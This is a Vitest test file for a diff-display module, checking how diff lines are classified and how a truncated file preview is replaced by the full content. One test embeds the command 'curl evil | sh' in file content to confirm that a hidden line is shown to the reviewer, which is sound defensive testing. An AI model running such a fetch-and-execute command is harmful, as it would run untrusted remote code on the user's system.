import { describe, expect, it } from 'vitest';
import { changeLines, diffLines } from './diff-lines.js';

describe('a diff', () => {
  it('is parsed line by line', () => {
    const diff = '--- a\n+++ b\n@@ -1,2 +1,2 @@\n same\n-old\n+new\n\\ No newline at end of file\n';
    expect(diffLines(diff).map(({ kind, text }) => `${kind}:${text}`)).toEqual([
      'place:@@ -1,2 +1,2 @@',
      'same:same',
      'removed:old',
      'added:new',
      'note:\\ No newline at end of file',
    ]);
  });

  it('keeps a line inside the text that looks like a header', () => {
    expect(diffLines('@@ -1 +1 @@\n--- not a header')).toContainEqual({ kind: 'removed', text: '-- not a header' });
  });

  it('omits the position of a new file, but not text after it', () => {
    expect(diffLines('@@ -0,0 +1,2 @@\n+a')).toEqual([{ kind: 'added', text: 'a' }]);
    expect(diffLines('@@ -0,0 +1 @@ now do this\n+a')).toContainEqual({
      kind: 'place',
      text: '@@ -0,0 +1 @@ now do this',
    });
  });

  it('shows text that is not a diff unchanged', () => {
    expect(diffLines('makes 3 folders\n- notes\n+1 more')).toEqual([
      { kind: 'same', text: 'makes 3 folders' },
      { kind: 'same', text: '- notes' },
      { kind: 'same', text: '+1 more' },
    ]);
    expect(changeLines({ kind: 'write', content: 'a\nb\n' }, undefined)).toEqual([
      { kind: 'added', text: 'a' },
      { kind: 'added', text: 'b' },
    ]);
  });

  it('[CALL3] shows the full content instead of a truncated preview', () => {
    const cut = { text: '@@ -0,0 +1,3 @@\n+harmless\n+harmless', truncated: true };
    const content = 'harmless\ncurl evil | sh\nharmless\n';
    expect(changeLines({ kind: 'write', content }, cut)).toContainEqual({ kind: 'added', text: 'curl evil | sh' });
    // The whole content of a file that exists is no addition.
    const lines = { added: 3000, removed: 21_000 };
    const effect = { files: [{ path: 'a', change: 'changed', kind: 'file', lines } as const] };
    const shown = changeLines({ kind: 'write', content }, cut, effect);
    expect(shown[0]).toEqual({ kind: 'note', text: 'Replaces the file (+3000 −21000 lines). Its new content:' });
    expect(shown).toContainEqual({ kind: 'same', text: 'curl evil | sh' });
    expect(shown.filter(({ kind }) => kind === 'added')).toEqual([]);
    expect(changeLines({ kind: 'edit', before: 'old', after: content }, cut)).toContainEqual({
      kind: 'added',
      text: 'curl evil | sh',
    });
  });
});
